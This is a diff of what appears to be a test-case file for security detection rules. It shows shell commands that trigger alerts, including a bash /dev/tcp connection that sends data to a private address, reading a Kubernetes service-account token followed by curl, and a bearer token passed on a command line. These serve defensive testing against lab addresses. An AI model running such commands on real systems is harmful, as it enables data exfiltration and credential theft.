@@ -9,7 +9,6 @@ try: s.recv(9)
 except OSError: pass'; sleep 0.3
 ## Service of a neighbour spoken to by a shell or a network tool
 #also Reverse shell by bash's own network
-#also Shell connects to the network
 #setup python3 -c 'import socket
 #setup s = socket.create_server(("", 6379))
 #setup while True: c, _ = s.accept(); c.recv(99); c.send(b"+PONG"); c.close()' & until ss -ltn | grep -q ':6379 '; do sleep 0.05; done
@@ -38,7 +37,6 @@ vncpasswd /tmp/p
 scp -q /tmp/x ann@10.9.8.6:/tmp/x
 ## Data passed to a neighbour by a shell or a network tool
 #also Reverse shell by bash's own network
-#also Shell connects to the network
 #setup listener 9000
 bash -c 'exec 3<>/dev/tcp/10.9.8.7/9000; head -c 9000 /dev/zero >&3'; sleep 0.3
 ## Transfer tool given a bare private address and a scratch folder
@@ -60,10 +58,10 @@ nuclei -u http://10.9.8.6
 ## Token given on a command line
 curl -s --max-time 1 -H 'Authorization: Bearer abc' http://10.9.8.6/ || true
 ## Token of the pod read, then used by hand
-#in shop:1
 #also Cloud credentials read in a container
 #also Download tool in a container
 #also Suspicious Process Execution
+#in shop:1
 #setup mkdir -p /run/secrets/kubernetes.io/serviceaccount; echo x > /run/secrets/kubernetes.io/serviceaccount/token; listener 443
 cat /run/secrets/kubernetes.io/serviceaccount/token > /dev/null; curl -s --max-time 1 https://10.9.8.7/ || true
 ## Ticket or certificate of a scratch folder used for a login
